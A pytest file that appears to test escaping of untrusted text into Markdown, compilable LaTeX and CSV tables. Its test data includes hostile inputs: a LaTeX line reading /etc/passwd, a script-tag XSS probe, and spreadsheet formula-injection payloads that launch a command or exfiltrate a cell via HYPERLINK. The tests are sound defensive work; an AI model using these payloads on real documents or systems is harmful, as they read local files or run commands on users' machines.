"""Text of users, models and judges in printed tables: it stays text, in Markdown and in LaTeX that compiles."""

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from support.latex import typeset, with_latex

from superficial.artifacts.markup import latex_text, markdown_text, minus, visible
from superficial.artifacts.printed import latex_table, latex_title, markdown_table, write_forms
from superficial.artifacts.table import read_table

HOSTILE = [
    "50 % of a_b & c # $x$ {y} ~ ^ \\ end",
    "\\input{/etc/passwd} \\end{document} \\\\ \\\\[3cm] \\%",
    "[1cm] in brackets",
    "*starred",
    "a → b − c ≤ d ‖ e Δ · × ± 20° … “q” ‘r’ – —",
    "é ü ß ø Ł č ğ œ",
    "Þ Ą đ ŋ ſ « » 你好 д α 🙂 \ufb01",
    "-- --- << >> | ?` !` '' ``",
    "a | b\n\n| c | d |",
    "<script>alert(1)</script> <!-- &lt; &#60; &",
    "[link](http://x) ![i](y) [ref]: z [^1] `code` ~~x~~ **b** __c__",
    "nul\x00 esc\x1b[31m bell\x07 del\x7f half \ud800 rtl \u202e x\u2028y",
    "",
    "w" * 300,
    "# head",
    "- item",
    "1. item",
    "---",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_latex_holds_no_command_of_the_text(text: str):
    written = latex_text(text)
    assert "\n" not in written
    written.encode()
    # What is left once our own commands are gone: nothing that LaTeX reads as more than a letter.
    ours = re.compile(r"\$(\\[a-zA-Z]+|-|\^\\circ)\$|\\text[a-z]+\{\}|\\dots\{\}|\\[%&#_${}]|-\{\}|^\{\}")
    rest = ours.sub("", written)
    assert not re.search(r"[\\%&#_${}~^`<>|]|--", rest), rest
    assert written[:1] not in ("[", "*")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("50 % of a_b & {c} #1 $2", r"50 \% of a\_b \& \{c\} \#1 \$2"),
        ("~ ^ \\", r"\textasciitilde{} \textasciicircum{} \textbackslash{}"),
        ("KL(aligned || base)", r"KL(aligned \textbar{}\textbar{} base)"),
        ("−0.3 → [1]", r"$-$0.3 $\rightarrow$ [1]"),
        ("[1]", "{}[1]"),
        ("a--b", "a-{}-b"),
        ("Gödel – “x”", "Gödel – “x”"),
        ("你", r"\textless{}U+4F60\textgreater{}"),
        ("a\x00", r"a\textless{}U+0000\textgreater{}"),
    ],
)
def test_latex_says_the_same_as_the_text(text: str, written: str):
    assert latex_text(text) == written


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a | b\n\n| c", r"a \| b \| c"),
        ("<b> & &lt; R&D", r"\<b\> & \&lt; R&D"),
        ("[a](b) [c][d] [e]: f [^g]", r"[a\](b) [c\][d] [e\]: f \[^g]"),
        ("`c` *b* _i_ ~~s~~ $m$ \\", r"\`c\` \*b\* \_i\_ \~\~s\~\~ \$m\$ \\"),
        ("0.53 [0.50, 0.55]", "0.53 [0.50, 0.55]"),
        ("-0.5", "-0.5"),
        ("- item", r"\- item"),
        ("12) item", r"12\) item"),
        ("1.5 to 2. or", "1.5 to 2. or"),
        ("---", r"\---"),
        ("# head", r"\# head"),
        ("half \ud800\x1b", r"half \\ud800\<U+001B\>"),
    ],
)
def test_markdown_says_the_same_as_the_text(text: str, written: str):
    assert markdown_text(text) == written


def test_a_cell_cannot_leave_its_place_in_markdown():
    lines = markdown_table(["name", "n"], [[text, ["1", text]] for text in HOSTILE] + ["all | of it"], left=1)
    assert len(lines) == 2 + len(HOSTILE) + 1
    for line in lines:
        assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) == 3, line
    assert lines[-1] == r"| **all \| of it** |  |"


def test_numbers_wear_a_minus_sign():
    assert minus("-0.5 [-1, 2]") == "−0.5 [−1, 2]"


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "='file:///etc/passwd'#$passwd.A1", "\t=A(1)", "＝ＳＵＭ（1）", "- one\n- two (of three)",
]  # fmt: skip
NUMBERS = ["-1", "+1.5e-3", "= 2", "-", "- a list", "@name", "a=b(c)", "'quoted' (twice)"]


def test_csv_gives_hostile_text_back(tmp_path: Path):
    """But for characters that a terminal would obey: these are spelled out."""
    texts = [*HOSTILE, *FORMULAS, *NUMBERS, *(f"'{one}" for one in FORMULAS)]
    texts = [text for text in texts if text and "\ud800" not in text]
    write_forms(pd.DataFrame({"title": texts, "n": 1.5}), {}, [tmp_path / "x.csv"])
    assert read_table(tmp_path / "x.csv")["title"].tolist() == [visible(text) for text in texts]
    assert not re.search(b"[\\x00-\\x08\\x0b-\\x1f\\x7f]", (tmp_path / "x.csv").read_bytes())


def test_a_spreadsheet_computes_no_cell(tmp_path: Path):
    """What a spreadsheet sees of each cell: it begins with an apostrophe, or is as harmless as it was."""
    write_forms(pd.DataFrame({"title": [*FORMULAS, *NUMBERS]}), {}, [tmp_path / "x.csv"])
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as file:
        cells = [row["title"] for row in csv.DictReader(file)]
    assert cells == [*(f"'{one}" for one in FORMULAS), *NUMBERS]


@with_latex
def test_hostile_titles_compile(tmp_path: Path):
    cells = [[text, [minus("-1.0"), text[:40]], "–"] for text in HOSTILE]
    lines = [line for text in HOSTILE for line in latex_title(text, text)]
    lines += latex_table(["name", "[a] b_c, %", HOSTILE[0]], cells, left=1)
    lines += latex_table(["name"], [HOSTILE[2], *[[text] for text in HOSTILE], HOSTILE[0]], left=1)
    lines += latex_table(["name", "n"], [], left=1)
    lines += map(latex_text, HOSTILE)
    typeset("\n".join(lines) + "\n", tmp_path)


@with_latex
def test_a_table_compiles_wherever_it_is_put(tmp_path: Path):
    """Two tables in one document, one of them inside a float: nothing of a table leaks out of it."""
    table = "\n".join(latex_table(["a", "b"], [["x", "1"]], left=1))
    typeset(f"{table}\\begin{{table}}{table}\\caption{{c}}\\end{{table}}\\newcommand{{\\midrulex}}{{}}\n", tmp_path)
